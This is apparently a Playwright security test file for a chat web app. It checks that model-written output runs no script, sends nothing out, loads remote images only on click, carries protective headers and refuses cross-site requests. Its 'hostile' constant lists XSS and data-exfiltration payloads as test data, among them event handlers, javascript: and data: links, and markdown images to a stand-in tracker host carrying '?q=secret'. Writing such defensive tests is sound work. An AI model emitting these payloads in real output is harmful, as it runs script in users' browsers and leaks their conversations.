import { expect, test } from "../fixtures/test.ts";
import { told } from "../fixtures/upstream.ts";
import { ChatPage } from "../pages/chat-page.ts";

/** What a model may write to run a script or to send the conversation somewhere. */
const hostile = `<script>window.pwned = 1</script>
<img src='https://tracker.example/html.png' onerror='window.pwned = 1'>
<iframe src='https://tracker.example/frame'></iframe>
<svg onload='window.pwned = 1'><a href='javascript:window.pwned=1'>svg</a></svg>
<style>@import 'https://tracker.example/style.css';</style>
<link rel=prefetch href='https://tracker.example/prefetch'>

[script link](javascript:window.pwned=1) [data link](data:text/html,<script>parent.pwned=1</script>)
[vb](vbscript:x) [entity](&#106;avascript:window.pwned=1) <javascript:window.pwned=1>
[reference link][evil] [fine](https://example.org/page)

![direct](https://tracker.example/direct.png?q=secret)
![by reference][picture]
![protocol-relative](//tracker.example/relative.png)
![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

| ![in a table](https://tracker.example/table.png) |
|---|
| [cell](javascript:window.pwned=1) |

$\\href{javascript:window.pwned=1}{x} \\includegraphics{https://tracker.example/tex.png}$

\`\`\`mermaid
%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(https://tracker.example/mermaid.css);'}}%%
flowchart LR
  A[#60;img src=https://tracker.example/mermaid.png onerror=window.pwned=1#62;] --> B
\`\`\`

[evil]: javascript:window.pwned=1
[picture]: https://tracker.example/reference.png
`;

test("what a model writes runs nothing and sends nothing out, streaming or whole", async ({
  page,
  person: _person,
  watch,
}) => {
  // Mermaid makes elements of what it is told to draw; in its frame a policy of its own stops what they would do.
  watch.allow(/inline event handler violates.*\/sandbox\/mermaid\/|Content security policy: script-src-attr inline/);
  const chat = new ChatPage(page);
  await chat.open();
  const answer = chat.answers.last();
  const offences = () =>
    answer.evaluate((box) => ({
      elements: box.querySelectorAll(
        "script, style, link, object, embed, base, form, img, svg a, iframe:not([sandbox='allow-scripts'])",
      ).length,
      links: [...box.querySelectorAll("a")].map((link) => link.protocol).filter((scheme) => !/^https?:$/.test(scheme)),
      handlers: [...box.querySelectorAll("*")].filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith("on")),
      ).length,
    }));
  const none = { elements: 0, links: [], handlers: 0 };

  // In small pieces: a half-written link or image must be as harmless as a whole one.
  await chat.ask(told({ text: hostile, chunks: 400, intervalMs: 4 }));
  await expect(answer).toContainText("script link");
  while (await chat.stop.isVisible()) expect(await offences()).toEqual(none);
  await chat.ended();
  expect(await offences()).toEqual(none);

  await page.reload();
  await expect(answer).toContainText("script link");
  await expect(answer.frameLocator('iframe[title="Diagram"]').getByText("B", { exact: true })).toBeVisible();
  expect(await offences()).toEqual(none);
  await expect(answer.getByRole("link", { name: /fine/ })).toHaveAttribute("href", "https://example.org/page");
  for (const frame of page.frames()) expect(await frame.evaluate(() => "pwned" in window)).toBe(false);
});

test("a remote image is loaded by a click, and that one alone", async ({ page, person: _person, watch }) => {
  watch.allow(/^request: https:\/\/pictures\.example\/a\.png$/);
  await page.route("https://pictures.example/**", (route) =>
    route.fulfill({ contentType: "image/png", body: Buffer.from(onePixel, "base64") }),
  );
  const chat = new ChatPage(page);
  await chat.open();
  await chat.ask(
    told({ text: "![A map](https://pictures.example/a.png)\n\n![By name][b]\n\n[b]: https://elsewhere.example/b.png" }),
  );
  await expect(chat.answers.getByRole("button", { name: "Load the image from elsewhere.example" })).toBeVisible();
  await expect(chat.answers.getByText("A map")).toBeVisible();
  const loaded = page.waitForResponse("https://pictures.example/a.png");
  await chat.answers.getByRole("button", { name: "Load the image from pictures.example" }).click();
  await expect(chat.answers.frameLocator('iframe[title="A map"]').getByRole("img", { name: "A map" })).toBeVisible();
  expect((await loaded).request().headers()).not.toHaveProperty("referer");
  await expect(chat.answers.getByRole("button", { name: /Load the image/ })).toHaveCount(1);
});

const onePixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

test("every page carries its protecting headers, and nothing of the provider's key", async ({
  page,
  person: _person,
}) => {
  for (const path of ["/", "/sign-in", "/settings/profile", "/c/nothing", "/api/health/ready"]) {
    const answer = await page.request.get(path, { maxRedirects: 0 });
    const headers = answer.headers();
    expect(headers["content-security-policy"], path).toMatch(/default-src 'none'/);
    expect(headers["content-security-policy"], path).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
    expect(headers, path).toMatchObject({
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "same-origin",
    });
    expect(headers, path).not.toHaveProperty("x-powered-by");
    expect(await answer.text(), path).not.toContain("sk-or-");
  }
  const first = await page.request.get("/");
  const second = await page.request.get("/");
  expect(first.headers()["content-security-policy"]).not.toBe(second.headers()["content-security-policy"]);
});

test("a change from another site is refused", async ({ page, person: _person }) => {
  const answer = await page.request.post("/api/trpc/auth.signOutEverywhere", {
    headers: { origin: "https://evil.example", "content-type": "application/json" },
    data: {},
  });
  expect(answer.status()).toBe(403);
  expect((await page.request.get("/api/trpc/auth.me")).status()).toBe(200);
});
